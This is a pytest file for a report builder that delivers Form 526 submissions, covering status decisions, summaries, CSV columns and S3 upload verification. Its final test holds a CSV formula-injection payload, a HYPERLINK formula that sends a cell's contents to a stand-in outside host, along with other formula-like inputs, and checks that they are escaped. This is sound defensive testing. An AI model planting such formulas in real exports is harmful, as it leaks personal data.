"""The reconciliation report builder (include/form526/delivery/report.py): status decisions, summary, CSVs."""

from __future__ import annotations

import csv
import io

from include.form526.delivery.report import (
    REPORT_COLUMNS,
    Row,
    final_row,
    reconciliation_csv,
    summarize,
    summary_table,
    verify_uploaded,
)

RUN = "manual__1"


def item(status: str, **kw):
    base = {"submission_id": 1, "status": status, "batch_no": 3, "duplicate_of": None, "detail": None,
            "state": None, "s3_bucket": None, "s3_key": None, "sha256": None, "bytes": None, "last_run_id": None,
            "batch_id": None, "last_error_code": None, "last_error_detail": None, "claimed_by": None,
            "claim_live": None}
    return {**base, **kw}


def test_uploaded_by_this_run():
    r = final_row(item("queued", state="uploaded", last_run_id=RUN, s3_bucket="b", s3_key="k", sha256="s",
                       bytes=10), RUN)
    assert (r.status, r.batch_id, r.s3_key, r.bytes) == ("uploaded", "0003", "k", 10)


def test_uploaded_by_another_run_meanwhile_is_already_delivered():
    r = final_row(item("queued", state="uploaded", last_run_id="other", s3_key="k"), RUN)
    assert r.status == "skipped_already_delivered"


def test_failed_in_this_run_keeps_code_and_detail():
    r = final_row(item("queued", state="failed", last_run_id=RUN, last_error_code="file_number_invalid",
                       last_error_detail="file number is invalid. It must be 8 or 9 digits"), RUN)
    assert (r.status, r.error_code) == ("failed", "file_number_invalid")


def test_claimed_by_a_live_other_run_is_in_progress():
    r = final_row(item("queued", state="claimed", last_run_id="other", claim_live=True), RUN)
    assert r.status == "skipped_in_progress"


def test_never_reached_is_a_failure_of_this_run():
    for state in ("queued", "claimed", None):
        r = final_row(item("queued", state=state, last_run_id=RUN), RUN)
        assert (r.status, r.error_code) == ("failed", "batch_incomplete")


def test_plan_statuses_pass_through():
    assert final_row(item("skipped_duplicate", duplicate_of=9), RUN).duplicate_of == 9
    assert final_row(item("not_eligible", detail="source state is success, not failed"), RUN).error_detail
    assert final_row(item("requested"), RUN).status == "not_found"
    assert final_row(item("planned"), RUN).status == "planned"


def test_summary_counts_and_failure_share():
    rows = [Row(1, "uploaded", "0001"), Row(2, "uploaded", "0001"), Row(3, "failed", "0002", error_code="x"),
            Row(4, "skipped_duplicate", duplicate_of=1), Row(5, "not_found")]
    s = summarize(RUN, rows, dry_run=False, remaining=7)
    assert s.by_status == {"uploaded": 2, "failed": 1, "skipped_duplicate": 1, "not_found": 1}
    assert s.failure_percent == 33.33 and s.batches == 2 and s.remaining_backlog == 7
    assert s.by_error_code == {"x": 1}
    assert "remaining backlog after this run: 7" in summary_table(s)


def test_csv_has_the_agreed_columns():
    out = reconciliation_csv([Row(1, "uploaded", "0001", "b", "k", "s", 10), Row(2, "skipped_duplicate",
                                                                                  duplicate_of=1)])
    rows = list(csv.DictReader(io.StringIO(out.decode())))
    assert tuple(rows[0]) == REPORT_COLUMNS
    assert rows[1]["duplicate_of"] == "1" and rows[1]["bytes"] == ""


class FakeStore:
    """A listing and HEAD answers, counting the HEADs."""

    def __init__(self, listing: dict[str, tuple[int, str]], heads_ok: set[str]):
        self.listing, self.heads_ok, self.heads = listing, heads_ok, []

    def list_etags(self, bucket, prefix):
        return {k: v for k, v in self.listing.items() if k.startswith(prefix)}

    def matches(self, bucket, key, size, sha, checksum=None):
        self.heads.append(key)
        return key in self.heads_ok


def up(sid, key, md5="m", size=1):
    return Row(sid, "uploaded", "0001", "b", key, "s", size, md5=md5)


def test_verify_uses_the_listing_when_the_etag_is_the_md5():
    store = FakeStore({"p/deliveries/r/batch-0001/1.zip": (1, "m")}, heads_ok=set())
    checked, bad = verify_uploaded([up(1, "p/deliveries/r/batch-0001/1.zip")], store)
    assert bad == [] and checked[0].status == "uploaded" and store.heads == []


def test_verify_turns_missing_or_resized_objects_into_failures():
    store = FakeStore({"p/deliveries/r/batch-0001/2.zip": (99, "m")}, heads_ok=set())
    rows = [up(1, "p/deliveries/r/batch-0001/1.zip"), up(2, "p/deliveries/r/batch-0001/2.zip"), Row(3, "not_found")]
    checked, bad = verify_uploaded(rows, store)
    assert bad == [1, 2]
    assert [r.status for r in checked] == ["failed", "failed", "not_found"]
    assert checked[0].error_code == "not_confirmed_in_s3"


def test_verify_falls_back_to_head_when_the_etag_is_not_an_md5():
    key = "p/deliveries/r/batch-0001/1.zip"
    good = FakeStore({key: (1, "kms-etag")}, heads_ok={key})
    assert verify_uploaded([up(1, key)], good)[1] == [] and good.heads == [key]
    bad = FakeStore({key: (1, "kms-etag")}, heads_ok=set())
    assert verify_uploaded([up(1, key)], bad)[1] == [1]
    legacy = FakeStore({key: (1, "m")}, heads_ok={key})  # written before the ledger kept MD5s
    assert verify_uploaded([up(1, key, md5="")], legacy)[1] == [] and legacy.heads == [key]


def test_report_and_manifest_cells_cannot_run_as_spreadsheet_formulas():
    from include.form526.delivery.batch import manifest_csv
    from include.form526.delivery.report import handoff_csv

    evil = '=HYPERLINK("https://x.example/?"&I3,"Jane")'
    manifest = manifest_csv([{"submission_id": 1, "s3_key": "k", "sha256": "s", "bytes": 3,
                              "veteran_first_name": evil, "veteran_last_name": "@SUM(A1)", "ssn": "+1",
                              "birth_date": "-2", "file_number": "\tx", "participant_id": "\rY"}]).decode()
    assert "'\rY" in manifest
    row = list(csv.reader(io.StringIO(manifest, newline="")))[1]
    assert row[4:9] == ["'" + evil, "'@SUM(A1)", "'-2", "'\tx", "'+1"]
    bad = Row(7, "failed", error_code="=cmd", error_detail="-1+1")
    cells = list(csv.reader(io.StringIO(reconciliation_csv([bad]).decode())))[1]
    assert cells[6:8] == ["'=cmd", "'-1+1"] and cells[0] == "7"
    assert list(csv.reader(io.StringIO(handoff_csv([(1, "=x")]).decode())))[1] == ["1", "'=x"]
